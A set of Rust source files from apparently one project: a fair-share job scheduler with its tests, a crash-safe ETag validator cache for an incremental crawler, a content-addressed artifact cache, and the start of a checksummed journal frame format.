            let root = root.as_ref().expect("root span exists while jobs run");
            let mut done: Vec<(usize, CompletedJob<T>)> = Vec::new();
            let mut leftover: Vec<Queued<P>> = Vec::new();
            let mut iter = chain.into_iter();
            for (slot, mut job) in iter.by_ref() {
                let span = root.child_keyed("sched.job", job.id.0);
                if job.first_dispatch_ms.is_none() {
                    job.first_dispatch_ms = Some(now_ms);
                    let wait_ms = now_ms.saturating_sub(job.submitted_ms);
                    span.record("lane", job.spec.lane.rank());
                    span.record("wait_ms", wait_ms);
                    self.obs.counter("sched.dispatched").incr();
                    self.obs.histogram("sched.wait_ms").record(wait_ms);
                }
                span.record("slices", 1);
                let ctx = ExecCtx {
                    resuming: job.parked,
                    slice_frames: if job.spec.lane == Lane::Batch {
                        slice_frames
                    } else {
                        None
                    },
                };
                match exec(job.id, &job.spec, &mut job.payload, ctx) {
                    StepResult::Done(output) => {
                        self.obs.counter("sched.completed").incr();
                        let wait_ms = job
                            .first_dispatch_ms
                            .expect("dispatched job has a dispatch time")
                            .saturating_sub(job.submitted_ms);
                        done.push((
                            slot,
                            CompletedJob {
                                id: job.id,
                                tenant: job.spec.tenant,
                                lane: job.spec.lane,
                                submitted_ms: job.submitted_ms,
                                wait_ms,
                                output,
                            },
                        ));
                    }
                    StepResult::Parked => {
                        job.parked = true;
                        self.obs.counter("sched.parked").incr();
                        leftover.push(job);
                        break;
                    }
                }
            }
            leftover.extend(iter.map(|(_, job)| job));
            (owner, done, leftover)
        });

        // Phase 3, under the lock again: return parked/unrun jobs to the
        // front of their queues (ids there are lower than any submission
        // that raced in, so ascending-id order is preserved), refund
        // unserved slots, and update the fairness watermark.
        let mut completed: Vec<(usize, CompletedJob<T>)> = Vec::new();
        {
            let mut inner = self.inner.lock().expect("daemon poisoned");
            for (owner, done, leftover) in results {
                completed.extend(done);
                if leftover.is_empty() {
                    continue;
                }
                // The parked head did receive a slice of service; the
                // jobs behind it did not — hand their slots back.
                let unserved = (leftover.len() - 1) as u64;
                inner.queued_total += leftover.len();
                let tq = inner
                    .tenants
                    .get_mut(&contenders[owner].tenant)
                    .expect("tenant vanished mid-tick");
                if !unbounded {
                    tq.deficit += unserved;
                    tq.serves -= unserved;
                }
                for job in leftover.into_iter().rev() {
                    tq.jobs.push_front(job);
                }
            }
            for tq in inner.tenants.values_mut() {
                if tq.jobs.is_empty() {
                    tq.deficit = 0;
                }
            }
            if !unbounded {
                let mut by_weight: BTreeMap<u32, (u64, u64)> = BTreeMap::new();
                for tq in inner.tenants.values() {
                    if tq.jobs.is_empty() {
                        continue;
                    }
                    let entry = by_weight.entry(tq.weight).or_insert((u64::MAX, 0));
                    entry.0 = entry.0.min(tq.serves);
                    entry.1 = entry.1.max(tq.serves);
                }
                for (min, max) in by_weight.values() {
                    if max > min {
                        inner.max_gap = inner.max_gap.max(max - min);
                    }
                }
                self.obs
                    .gauge("sched.drr.max_gap")
                    .set(inner.max_gap as i64);
                if selected > 0 {
                    self.obs.counter("sched.drr.rounds").incr();
                    self.obs.counter("sched.drr.selected").add(selected as u64);
                }
            }
            self.obs
                .gauge("sched.queue_depth")
                .set(inner.queued_total as i64);
        }

        completed.sort_by_key(|(slot, _)| *slot);
        let mut events: Vec<JobEvent<T, P>> = expired.into_iter().map(JobEvent::Expired).collect();
        events.extend(
            completed
                .into_iter()
                .map(|(_, done)| JobEvent::Completed(done)),
        );
        events
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use obs::ManualClock;

    fn daemon(config: DaemonConfig) -> (Daemon<u64>, Arc<ManualClock>) {
        let clock = Arc::new(ManualClock::new());
        let d = Daemon::new(config, clock.clone(), Obs::disabled());
        (d, clock)
    }

    fn run_ids<P: Send>(daemon: &Daemon<P>) -> (Vec<u64>, Vec<u64>) {
        let mut completed = Vec::new();
        let mut expired = Vec::new();
        for event in daemon.tick(|id, _, _, _| StepResult::Done(id.0)) {
            match event {
                JobEvent::Completed(done) => completed.push(done.output),
                JobEvent::Expired(e) => expired.push(e.id.0),
            }
        }
        (completed, expired)
    }

    #[test]
    fn overdue_queued_jobs_expire_with_reason() {
        let (d, clock) = daemon(DaemonConfig::default());
        d.submit(JobSpec::new("a").deadline_ms(100), 0).unwrap();
        d.submit(JobSpec::new("a").deadline_ms(500), 1).unwrap();
        d.submit(JobSpec::new("b"), 2).unwrap();
        clock.advance(300);
        let events: Vec<JobEvent<u64, u64>> = d.tick(|id, _, _, _| StepResult::Done(id.0));
        let JobEvent::Expired(e) = &events[0] else {
            panic!("first event should be the expiry");
        };
        assert_eq!(e.id, JobId(0));
        assert_eq!(e.deadline_ms, 100);
        assert_eq!(e.expired_at_ms, 300);
        assert_eq!(e.payload, 0);
        assert_eq!(
            e.rejection(),
            Rejection::DeadlineExpired {
                deadline_ms: 100,
                late_by_ms: 200,
            }
        );
        // The live jobs completed this tick.
        assert_eq!(events.len(), 3);
        assert!(d.is_empty());
    }

    #[test]
    fn deadline_instant_still_dispatches() {
        let (d, clock) = daemon(DaemonConfig::default());
        d.submit(JobSpec::new("a").deadline_ms(100), 7).unwrap();
        clock.advance(100);
        let (completed, expired) = run_ids(&d);
        assert_eq!(completed, vec![0]);
        assert!(expired.is_empty());
    }

    #[test]
    fn drr_bounds_service_gap_under_flooding() {
        // Tenant "flood" floods 12 batch jobs; "steady" keeps 12 queued
        // too. With quantum 1, each round serves one job of each: the
        // service gap never exceeds quantum × weight = 1.
        let (d, _) = daemon(DaemonConfig {
            quantum: 1,
            queue_capacity: 64,
            ..DaemonConfig::default()
        });
        for i in 0..12u64 {
            d.submit(JobSpec::new("flood").lane(Lane::Batch), i)
                .unwrap();
        }
        for i in 12..24u64 {
            d.submit(JobSpec::new("steady").lane(Lane::Batch), i)
                .unwrap();
        }
        let mut flood = 0u64;
        let mut steady = 0u64;
        while !d.is_empty() {
            let (completed, _) = run_ids(&d);
            for id in completed {
                if id < 12 {
                    flood += 1;
                } else {
                    steady += 1;
                }
            }
            if flood < 12 && steady < 12 {
                assert!(flood.abs_diff(steady) <= 1, "gap {flood} vs {steady}");
            }
        }
        assert_eq!((flood, steady), (12, 12));
        assert!(d.fairness_gap() <= 1, "watermark {}", d.fairness_gap());
    }

    #[test]
    fn weights_scale_service_proportionally() {
        let (d, _) = daemon(DaemonConfig {
            quantum: 1,
            queue_capacity: 64,
            ..DaemonConfig::default()
        });
        for i in 0..8u64 {
            d.submit(JobSpec::builder("heavy").weight(2).build().unwrap(), i)
                .unwrap();
        }
        for i in 8..16u64 {
            d.submit(JobSpec::new("light"), i).unwrap();
        }
        // First round: heavy earns 2 slots, light 1.
        let (completed, _) = run_ids(&d);
        let heavy = completed.iter().filter(|id| **id < 8).count();
        let light = completed.iter().filter(|id| **id >= 8).count();
        assert_eq!((heavy, light), (2, 1));
    }

    #[test]
    fn interactive_arrival_parks_a_running_batch() {
        // Batch jobs take 3 slices each. After the batch job parks once,
        // an interactive job from another tenant must dispatch before the
        // batch job's next slice.
        let (d, _) = daemon(DaemonConfig {
            quantum: 1,
            batch_slice_frames: Some(4),
            ..DaemonConfig::default()
        });
        d.submit(JobSpec::new("bulk").lane(Lane::Batch), 0).unwrap();
        let order: Mutex<Vec<(u64, bool)>> = Mutex::new(Vec::new());
        let exec = |id: JobId, spec: &JobSpec, slices: &mut u64, ctx: ExecCtx| {
            order.lock().unwrap().push((id.0, ctx.resuming));
            if spec.lane == Lane::Batch && ctx.slice_frames.is_some() {
                *slices += 1;
                if *slices < 3 {
                    return StepResult::Parked;
                }
            }
            StepResult::Done(id.0)
        };
        let first: Vec<JobEvent<u64, u64>> = d.tick(exec);
        assert!(first.is_empty(), "batch job parked, nothing completed");
        assert_eq!(d.len(), 1);

        d.submit(JobSpec::new("urgent").lane(Lane::Interactive), 0)
            .unwrap();
        while !d.is_empty() {
            d.tick::<u64, _>(exec);
        }
        let order = order.into_inner().unwrap();
        assert_eq!(
            order,
            vec![
                (0, false), // batch slice 1 → parks
                (1, false), // interactive preempts the parked batch
                (0, true),  // batch resumes
                (0, true),  // …and completes on its third slice
            ]
        );
    }

    #[test]
    fn parked_job_still_blocks_same_tenant_later_jobs() {
        // Tenant t's parked Batch job (id 0) must complete before t's
        // later Interactive submission (id 1) runs, even though the
        // interactive lane sorts first — the JobSpec contract.
        for workers in [1, 4] {
            let (d, _) = daemon(DaemonConfig {
                quantum: 4,
                workers,
                batch_slice_frames: Some(4),
                ..DaemonConfig::default()
            });
            d.submit(JobSpec::new("t").lane(Lane::Batch), 0).unwrap();
            let order: Mutex<Vec<u64>> = Mutex::new(Vec::new());
            let exec = |id: JobId, spec: &JobSpec, slices: &mut u64, ctx: ExecCtx| {
                if spec.lane == Lane::Batch && ctx.slice_frames.is_some() {
                    *slices += 1;
                    if *slices < 2 {
                        return StepResult::Parked;
                    }
                }
                order.lock().unwrap().push(id.0);
                StepResult::Done(id.0)
            };
            d.tick::<u64, _>(exec); // parks job 0
            d.submit(JobSpec::new("t").lane(Lane::Interactive), 0)
                .unwrap();
            while !d.is_empty() {
                d.tick::<u64, _>(exec);
            }
            assert_eq!(
                *order.lock().unwrap(),
                vec![0, 1],
                "workers={workers}: parked batch must finish before the \
                 same tenant's later interactive job"
            );
        }
    }

    #[test]
    fn drain_all_matches_legacy_dispatch_order() {
        let (d, _) = daemon(DaemonConfig::default());
        d.submit(JobSpec::new("a").lane(Lane::Batch), 0).unwrap();
        d.submit(JobSpec::new("b").lane(Lane::Interactive).deadline_ms(9), 1)
            .unwrap();
        d.submit(JobSpec::new("c").lane(Lane::Interactive).deadline_ms(3), 2)
            .unwrap();
        d.submit(JobSpec::new("d"), 3).unwrap();
        let done = d.drain_all(|_, _, payload, _| StepResult::Done(*payload));
        let order: Vec<u64> = done.iter().map(|j| j.output).collect();
        assert_eq!(order, vec![2, 1, 3, 0]);
    }

    #[test]
    fn events_are_worker_count_invariant() {
        let runs: Vec<Vec<String>> = [1usize, 4]
            .iter()
            .map(|&workers| {
                let (d, clock) = daemon(DaemonConfig {
                    workers,
                    quantum: 2,
                    queue_capacity: 256,
                    ..DaemonConfig::default()
                });
                let mut log = Vec::new();
                for round in 0..4u64 {
                    let submitted_at = round * 150;
                    for i in 0..6u64 {
                        let tenant = ["x", "y", "z"][(i % 3) as usize];
                        // Even submissions carry a just-missable deadline
                        // (they expire before the tick at +50 ms); odd
                        // ones have headroom and complete.
                        let deadline = if i % 2 == 0 {
                            submitted_at + 30
                        } else {
                            submitted_at + 500
                        };
                        let spec = JobSpec::new(tenant).deadline_ms(deadline);
                        let _ = d.submit(spec, round * 10 + i);
                    }
                    clock.advance(50);
                    for event in d.tick(|id, _, _, _| StepResult::Done(id.0)) {
                        match event {
                            JobEvent::Completed(done) => {
                                log.push(format!("done:{}:{}", done.id, done.wait_ms))
                            }
                            JobEvent::Expired(e) => {
                                log.push(format!("expired:{}:{}", e.id, e.deadline_ms))
                            }
                        }
                    }
                    clock.advance(100);
                }
                log
            })
            .collect();
        assert_eq!(runs[0], runs[1]);
        assert!(runs[0].iter().any(|l| l.starts_with("expired:")));
        assert!(runs[0].iter().any(|l| l.starts_with("done:")));
    }

    #[test]
    fn abandon_returns_everything_queued() {
        let (d, _) = daemon(DaemonConfig {
            quantum: 1,
            ..DaemonConfig::default()
        });
        d.submit(JobSpec::new("a"), 10).unwrap();
        d.submit(JobSpec::new("b"), 11).unwrap();
        d.submit(JobSpec::new("a"), 12).unwrap();
        let dropped = d.abandon();
        let ids: Vec<u64> = dropped.iter().map(|j| j.id.0).collect();
        let payloads: Vec<u64> = dropped.iter().map(|j| j.payload).collect();
        assert_eq!(ids, vec![0, 1, 2]);
        assert_eq!(payloads, vec![10, 11, 12]);
        assert!(d.is_empty());
    }
}
