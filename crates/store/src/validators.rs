//! The validator cache: journaled HTTP content validators for the
//! conditional-fetch crawl.
//!
//! An incremental re-audit only pays off if the crawler remembers, across
//! processes, which validator (ETag) each page served last time and what
//! body that validator covered. [`ValidatorCache`] persists exactly that:
//! a string-keyed map (URL → opaque caller bytes) journaled through the
//! same crash-safe [`crate::journal::Journal`] machinery as the pipeline's
//! unit log, living in its own file (`validators.wal`) next to the
//! artifact pack so it survives fresh (non-resume) runs the way the pack
//! does.
//!
//! The cache is *performance state, not correctness state*: a stale or
//! missing entry only costs an extra full fetch, never a wrong report, so
//! recovery policy is simple — any damage or identity mismatch throws the
//! whole file away. Identity is the run fingerprint (seed + config, epoch
//! excluded), so epoch N+1 of the same world warms from epoch N, while a
//! different seed or crawl config starts cold.
//!
//! The meta frame also records the *epoch* the cached validators describe.
//! That drives the `changed-since` cross-check: a crawler warming from
//! epoch N asks the listing site what changed after N. The epoch is only
//! advanced by the caller once a crawl completes, so a crash mid-crawl
//! leaves a conservative (older) epoch behind — the next run re-checks
//! more pages than strictly needed, which is safe.

use crate::backend::Backend;
use crate::hash::fnv64;
use crate::journal::Journal;
use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex};

/// Validator journal file name inside a store directory.
pub const VALIDATOR_FILE: &str = "validators.wal";

/// Frame kind: cache identity (fingerprint + epoch). Re-appended on epoch
/// advance; the latest frame wins on replay.
const K_VALIDATOR_META: u16 = 0x0100;
/// Frame kind: one cached entry (`key_len | key | value`).
const K_VALIDATOR_ENTRY: u16 = 0x0101;

/// Counters describing how an open went and what the cache holds.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ValidatorCacheStats {
    /// Entries live in the map.
    pub entries: u64,
    /// Entries recovered from the journal at open.
    pub replayed: u64,
    /// True when the on-disk cache belonged to a different run identity
    /// (or was damaged beyond the valid prefix) and was discarded.
    pub reset: bool,
}

/// A journaled, crash-safe map of content validators for one run identity.
pub struct ValidatorCache {
    journal: Journal,
    entries: Mutex<BTreeMap<String, Vec<u8>>>,
    fingerprint: u64,
    epoch: Mutex<u32>,
    replayed: u64,
    reset: bool,
}

fn encode_meta(fingerprint: u64, epoch: u32) -> Vec<u8> {
    let mut payload = fingerprint.to_le_bytes().to_vec();
    payload.extend_from_slice(&epoch.to_le_bytes());
    payload
}

fn decode_meta(payload: &[u8]) -> Option<(u64, u32)> {
    if payload.len() < 12 {
        return None;
    }
    let fp = u64::from_le_bytes(payload[..8].try_into().ok()?);
    let epoch = u32::from_le_bytes(payload[8..12].try_into().ok()?);
    Some((fp, epoch))
}

fn encode_entry(key: &str, value: &[u8]) -> Vec<u8> {
    let mut payload = (key.len() as u32).to_le_bytes().to_vec();
    payload.extend_from_slice(key.as_bytes());
    payload.extend_from_slice(value);
    payload
}

fn decode_entry(payload: &[u8]) -> Option<(String, Vec<u8>)> {
    if payload.len() < 4 {
        return None;
    }
    let key_len = u32::from_le_bytes(payload[..4].try_into().ok()?) as usize;
    if payload.len() < 4 + key_len {
        return None;
    }
    let key = String::from_utf8(payload[4..4 + key_len].to_vec()).ok()?;
    Some((key, payload[4 + key_len..].to_vec()))
}

impl ValidatorCache {
    /// Open (or create) the validator cache for the run identified by
    /// `fingerprint`. An existing cache with a different identity is
    /// discarded — warming from another world's validators would only
    /// waste conditional fetches.
    pub fn open(backend: Arc<dyn Backend>, fingerprint: u64) -> io::Result<ValidatorCache> {
        let (journal, replay) = Journal::open(backend.clone(), VALIDATOR_FILE)?;
        let compatible = replay
            .frames
            .first()
            .map(|f| {
                f.kind == K_VALIDATOR_META
                    && decode_meta(&f.payload).map(|(fp, _)| fp) == Some(fingerprint)
            })
            .unwrap_or(false);
        if compatible {
            let mut entries = BTreeMap::new();
            let mut epoch = 0u32;
            for frame in &replay.frames {
                match frame.kind {
                    K_VALIDATOR_META => {
                        if let Some((_, e)) = decode_meta(&frame.payload) {
                            epoch = e;
                        }
                    }
                    K_VALIDATOR_ENTRY => {
                        if let Some((key, value)) = decode_entry(&frame.payload) {
                            entries.insert(key, value);
                        }
                    }
                    _ => {}
                }
            }
            let replayed = entries.len() as u64;
            Ok(ValidatorCache {
                journal,
                entries: Mutex::new(entries),
                fingerprint,
                epoch: Mutex::new(epoch),
                replayed,
                reset: false,
            })
        } else {
            let reset = !replay.frames.is_empty();
            let journal = Journal::open_fresh(backend, VALIDATOR_FILE)?;
            journal.append(K_VALIDATOR_META, 0, encode_meta(fingerprint, 0))?;
            Ok(ValidatorCache {
                journal,
                entries: Mutex::new(BTreeMap::new()),
                fingerprint,
                epoch: Mutex::new(0),
                replayed: 0,
                reset,
            })
        }
    }

    /// The run identity this cache serves.
    pub fn fingerprint(&self) -> u64 {
        self.fingerprint
    }

    /// The epoch the cached validators describe (0 until a crawl commits).
    pub fn epoch(&self) -> u32 {
        *self.epoch.lock().expect("epoch lock")
    }

    /// Durably advance the described epoch (call once a crawl of `epoch`
    /// has completed and every entry reflects that world).
    pub fn commit_epoch(&self, epoch: u32) -> io::Result<()> {
        self.journal
            .append(K_VALIDATOR_META, 0, encode_meta(self.fingerprint, epoch))?;
        *self.epoch.lock().expect("epoch lock") = epoch;
        Ok(())
    }

    /// The cached bytes for `key`, if any.
    pub fn get(&self, key: &str) -> Option<Vec<u8>> {
        self.entries.lock().expect("entries lock").get(key).cloned()
    }

    /// Durably record (or replace) an entry.
    pub fn put(&self, key: &str, value: &[u8]) -> io::Result<()> {
        self.journal.append(
            K_VALIDATOR_ENTRY,
            fnv64(key.as_bytes()),
            encode_entry(key, value),
        )?;
        self.entries
            .lock()
            .expect("entries lock")
            .insert(key.to_string(), value.to_vec());
        Ok(())
    }

    /// Open-time and shape counters.
    pub fn stats(&self) -> ValidatorCacheStats {
        ValidatorCacheStats {
            entries: self.entries.lock().expect("entries lock").len() as u64,
            replayed: self.replayed,
            reset: self.reset,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    fn mem() -> Arc<MemBackend> {
        Arc::new(MemBackend::new())
    }

    #[test]
    fn entries_and_epoch_survive_reopen() {
        let backend = mem();
        let cache = ValidatorCache::open(backend.clone(), 42).unwrap();
        cache.put("https://a/x", b"etag-1|body").unwrap();
        cache.put("https://a/y", b"etag-2|body").unwrap();
        cache.put("https://a/x", b"etag-3|newer").unwrap();
        cache.commit_epoch(2).unwrap();
        drop(cache);

        let cache = ValidatorCache::open(backend, 42).unwrap();
        assert_eq!(cache.epoch(), 2);
        assert_eq!(
            cache.get("https://a/x").as_deref(),
            Some(&b"etag-3|newer"[..])
        );
        assert_eq!(
            cache.get("https://a/y").as_deref(),
            Some(&b"etag-2|body"[..])
        );
        assert_eq!(cache.stats().entries, 2);
        assert!(!cache.stats().reset);
    }

    #[test]
    fn foreign_fingerprint_resets_the_cache() {
        let backend = mem();
        let cache = ValidatorCache::open(backend.clone(), 1).unwrap();
        cache.put("k", b"v").unwrap();
        cache.commit_epoch(5).unwrap();
        drop(cache);

        let cache = ValidatorCache::open(backend, 2).unwrap();
        assert_eq!(cache.get("k"), None, "foreign validators must not warm");
        assert_eq!(cache.epoch(), 0);
        assert!(cache.stats().reset);
    }

    #[test]
    fn torn_tail_keeps_the_valid_prefix() {
        let backend = mem();
        let cache = ValidatorCache::open(backend.clone(), 7).unwrap();
        cache.put("keep", b"safe").unwrap();
        cache.put("tear", b"lost to the torn tail").unwrap();
        drop(cache);

        let bytes = backend.read(VALIDATOR_FILE).unwrap().unwrap();
        backend.poke(VALIDATOR_FILE, bytes[..bytes.len() - 4].to_vec());

        let cache = ValidatorCache::open(backend.clone(), 7).unwrap();
        assert_eq!(cache.get("keep").as_deref(), Some(&b"safe"[..]));
        assert_eq!(cache.get("tear"), None);
        // And the repaired file accepts new entries that then replay.
        cache.put("tear", b"rewritten").unwrap();
        drop(cache);
        let cache = ValidatorCache::open(backend, 7).unwrap();
        assert_eq!(cache.get("tear").as_deref(), Some(&b"rewritten"[..]));
    }

    #[test]
    fn uncommitted_crash_replays_a_conservative_superset_at_the_old_epoch() {
        let backend = mem();
        let cache = ValidatorCache::open(backend.clone(), 11).unwrap();
        cache.put("https://a/x", b"etag-1").unwrap();
        cache.commit_epoch(1).unwrap();
        // Epoch 2's crawl gets partway — new and updated validators are
        // journaled — and then the process dies before commit_epoch(2).
        cache.put("https://a/x", b"etag-2").unwrap();
        cache.put("https://a/z", b"etag-new").unwrap();
        drop(cache);

        let cache = ValidatorCache::open(backend, 11).unwrap();
        // Conservative: the epoch stays at the last committed crawl, so
        // the next run re-checks everything changed after epoch 1...
        assert_eq!(cache.epoch(), 1);
        // ...while every entry written before the crash is retained — a
        // superset of epoch 1's map, never a partial rollback. Stale
        // entries only cost an extra conditional fetch, never a wrong
        // report.
        assert_eq!(cache.stats().entries, 2);
        assert_eq!(cache.get("https://a/x").as_deref(), Some(&b"etag-2"[..]));
        assert_eq!(cache.get("https://a/z").as_deref(), Some(&b"etag-new"[..]));
    }

    #[test]
    fn damaged_header_resets_rather_than_lies() {
        let backend = mem();
        let cache = ValidatorCache::open(backend.clone(), 9).unwrap();
        cache.put("k", b"v").unwrap();
        drop(cache);

        // Flip a byte inside the meta frame: the whole file is discarded.
        let mut bytes = backend.read(VALIDATOR_FILE).unwrap().unwrap();
        let mid = bytes.len() / 4;
        bytes[mid] ^= 0xff;
        backend.poke(VALIDATOR_FILE, bytes);

        let cache = ValidatorCache::open(backend, 9).unwrap();
        assert_eq!(cache.get("k"), None);
    }
}
