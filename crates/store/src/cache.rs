//! The content-addressed artifact cache.
//!
//! Analysis outputs (traceability reports, code-scan findings, …) are
//! stored as blobs addressed by a [`ContentHash`] of their canonical
//! *input* bytes: the same bot content under the same configuration always
//! maps to the same address, so a re-run over an unchanged population
//! resolves every analysis with a cache hit and performs zero re-analysis.
//!
//! On disk the cache is one append-only pack file of checksummed frames
//! (`[16-byte address][blob]` payloads), replayed into an in-memory index
//! at open. Appends survive crashes the same way the journal does — the
//! longest valid prefix wins — and [`ArtifactCache::compact`] rewrites the
//! pack atomically keeping only a live set, which is how snapshots drop
//! artifacts orphaned by config changes or superseded runs.

use crate::backend::Backend;
use crate::frame::{decode_all, Frame, StopReason};
use crate::hash::ContentHash;
use std::collections::BTreeMap;
use std::io;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Frame kind used inside pack files (distinct namespace from the journal,
/// but kept non-colliding for debuggability).
const K_ARTIFACT: u16 = 0x00a7;

/// Point-in-time shape of the cache.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheSnapshot {
    /// Distinct artifacts indexed.
    pub entries: usize,
    /// Total blob bytes (excluding framing).
    pub blob_bytes: usize,
}

/// A shared, append-only blob store addressed by content hash.
pub struct ArtifactCache {
    backend: Arc<dyn Backend>,
    file: String,
    index: Mutex<BTreeMap<ContentHash, Vec<u8>>>,
    hits: AtomicU64,
    misses: AtomicU64,
}

impl ArtifactCache {
    /// Open (replaying and, when damaged, repairing) the pack at `file`.
    pub fn open(backend: Arc<dyn Backend>, file: &str) -> io::Result<ArtifactCache> {
        let bytes = backend.read(file)?.unwrap_or_default();
        let decoded = decode_all(&bytes);
        if decoded.stop != StopReason::CleanEnd {
            backend.write_atomic(file, &bytes[..decoded.valid_bytes])?;
        }
        let mut index = BTreeMap::new();
        for frame in decoded.frames {
            if frame.kind != K_ARTIFACT || frame.payload.len() < 16 {
                continue; // foreign or malformed record: skip, don't fail
            }
            let Some(hash) = ContentHash::from_bytes(&frame.payload[..16]) else {
                continue;
            };
            index
                .entry(hash)
                .or_insert_with(|| frame.payload[16..].to_vec());
        }
        Ok(ArtifactCache {
            backend,
            file: file.to_string(),
            index: Mutex::new(index),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
        })
    }

    /// Look up the blob at `hash`, counting a hit or miss.
    pub fn get(&self, hash: &ContentHash) -> Option<Vec<u8>> {
        let found = self
            .index
            .lock()
            .expect("cache index lock")
            .get(hash)
            .cloned();
        match &found {
            Some(_) => self.hits.fetch_add(1, Ordering::Relaxed),
            None => self.misses.fetch_add(1, Ordering::Relaxed),
        };
        found
    }

    /// Look up the blob at `hash` without touching the hit/miss counters.
    /// For side caches (e.g. honeypot guild snapshots) whose reuse is
    /// reported on its own counter, so the artifact counters stay an exact
    /// census of per-bot analyses.
    pub fn peek(&self, hash: &ContentHash) -> Option<Vec<u8>> {
        self.index
            .lock()
            .expect("cache index lock")
            .get(hash)
            .cloned()
    }

    /// Store `blob` at `hash`. Idempotent: re-putting an existing address
    /// is a no-op (content-addressed blobs cannot conflict).
    pub fn put(&self, hash: ContentHash, blob: &[u8]) -> io::Result<()> {
        {
            let mut index = self.index.lock().expect("cache index lock");
            if index.contains_key(&hash) {
                return Ok(());
            }
            index.insert(hash, blob.to_vec());
        }
        let mut payload = Vec::with_capacity(16 + blob.len());
        payload.extend_from_slice(&hash.0);
        payload.extend_from_slice(blob);
        self.backend.append(
            &self.file,
            &Frame::new(K_ARTIFACT, hash.short(), payload).encode(),
        )
    }

    /// Rewrite the pack keeping only `live` addresses (atomically — a crash
    /// mid-compaction leaves the old pack intact), and drop everything else
    /// from the index. Returns how many artifacts were discarded.
    pub fn compact(&self, live: &[ContentHash]) -> io::Result<usize> {
        let mut index = self.index.lock().expect("cache index lock");
        let keep: BTreeMap<ContentHash, Vec<u8>> = live
            .iter()
            .filter_map(|h| index.get(h).map(|blob| (*h, blob.clone())))
            .collect();
        let dropped = index.len() - keep.len();
        let mut pack = Vec::new();
        for (hash, blob) in &keep {
            let mut payload = Vec::with_capacity(16 + blob.len());
            payload.extend_from_slice(&hash.0);
            payload.extend_from_slice(blob);
            pack.extend_from_slice(&Frame::new(K_ARTIFACT, hash.short(), payload).encode());
        }
        self.backend.write_atomic(&self.file, &pack)?;
        *index = keep;
        Ok(dropped)
    }

    /// Lookups served from the index.
    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Lookups that found nothing (the caller computed and `put`).
    pub fn misses(&self) -> u64 {
        self.misses.load(Ordering::Relaxed)
    }

    /// Current entry count and blob volume.
    pub fn snapshot(&self) -> CacheSnapshot {
        let index = self.index.lock().expect("cache index lock");
        CacheSnapshot {
            entries: index.len(),
            blob_bytes: index.values().map(Vec::len).sum(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    fn open(backend: &Arc<MemBackend>) -> ArtifactCache {
        ArtifactCache::open(backend.clone() as Arc<dyn Backend>, "pack").unwrap()
    }

    #[test]
    fn put_get_roundtrip_and_counters() {
        let backend = Arc::new(MemBackend::new());
        let cache = open(&backend);
        let h = ContentHash::of(b"input");
        assert_eq!(cache.get(&h), None);
        cache.put(h, b"blob bytes").unwrap();
        assert_eq!(cache.get(&h).as_deref(), Some(&b"blob bytes"[..]));
        assert_eq!((cache.hits(), cache.misses()), (1, 1));
    }

    #[test]
    fn survives_reopen() {
        let backend = Arc::new(MemBackend::new());
        let cache = open(&backend);
        let h = ContentHash::of(b"x");
        cache.put(h, b"persisted").unwrap();
        drop(cache);
        let cache = open(&backend);
        assert_eq!(cache.get(&h).as_deref(), Some(&b"persisted"[..]));
        assert_eq!(
            cache.snapshot(),
            CacheSnapshot {
                entries: 1,
                blob_bytes: 9
            }
        );
    }

    #[test]
    fn torn_pack_tail_recovers_prefix() {
        let backend = Arc::new(MemBackend::new());
        let cache = open(&backend);
        let (h1, h2) = (ContentHash::of(b"1"), ContentHash::of(b"2"));
        cache.put(h1, b"first").unwrap();
        cache.put(h2, b"second").unwrap();
        let bytes = backend.read("pack").unwrap().unwrap();
        backend.poke("pack", bytes[..bytes.len() - 5].to_vec());

        let cache = open(&backend);
        assert!(cache.get(&h1).is_some());
        assert_eq!(cache.get(&h2), None);
        // The torn record was truncated away: new puts replay cleanly.
        cache.put(h2, b"second again").unwrap();
        let cache = open(&backend);
        assert_eq!(cache.get(&h2).as_deref(), Some(&b"second again"[..]));
    }

    #[test]
    fn compact_keeps_only_live() {
        let backend = Arc::new(MemBackend::new());
        let cache = open(&backend);
        let hashes: Vec<ContentHash> = (0..10u8).map(|i| ContentHash::of(&[i])).collect();
        for h in &hashes {
            cache.put(*h, b"payload").unwrap();
        }
        let before = backend.read("pack").unwrap().unwrap().len();
        let dropped = cache.compact(&hashes[..3]).unwrap();
        assert_eq!(dropped, 7);
        assert!(backend.read("pack").unwrap().unwrap().len() < before);
        assert_eq!(cache.snapshot().entries, 3);
        // Survives reopen with only the live set.
        let cache = open(&backend);
        assert!(cache.get(&hashes[0]).is_some());
        assert!(cache.get(&hashes[5]).is_none());
    }

    #[test]
    fn put_is_idempotent() {
        let backend = Arc::new(MemBackend::new());
        let cache = open(&backend);
        let h = ContentHash::of(b"same");
        cache.put(h, b"blob").unwrap();
        let size = backend.read("pack").unwrap().unwrap().len();
        cache.put(h, b"blob").unwrap();
        assert_eq!(
            backend.read("pack").unwrap().unwrap().len(),
            size,
            "no duplicate append"
        );
    }
}
