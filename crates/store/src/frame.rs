//! Length-prefixed, checksummed journal frames.
//!
//! Wire layout of one frame:
//!
//! ```text
//! ┌───────┬─────────┬──────┬───────┬──────────────┬───────┐
//! │ magic │ len u32 │ kind │ key   │ payload      │ crc32 │
//! │ 4 B   │ LE      │ u16  │ u64   │ `len` bytes  │ LE    │
//! └───────┴─────────┴──────┴───────┴──────────────┴───────┘
//! ```
//!
//! The CRC covers kind + key + payload, so a torn write (short tail), a
//! bit flip anywhere in the record, or garbage after a crash all fail
//! verification. Decoding never panics: it walks the buffer frame by frame
//! and stops at the first record that is incomplete or fails its checksum —
//! the *longest valid prefix* is exactly what a write-ahead log can promise
//! after a crash, and the byte offset of that prefix is where recovery
//! truncates before appending again.

use crate::checksum::Crc32;

/// Per-frame magic: guards against interpreting arbitrary garbage (or a
/// mid-frame offset) as a length field.
pub const FRAME_MAGIC: [u8; 4] = *b"audj";

/// Fixed bytes before the payload: magic + len + kind + key.
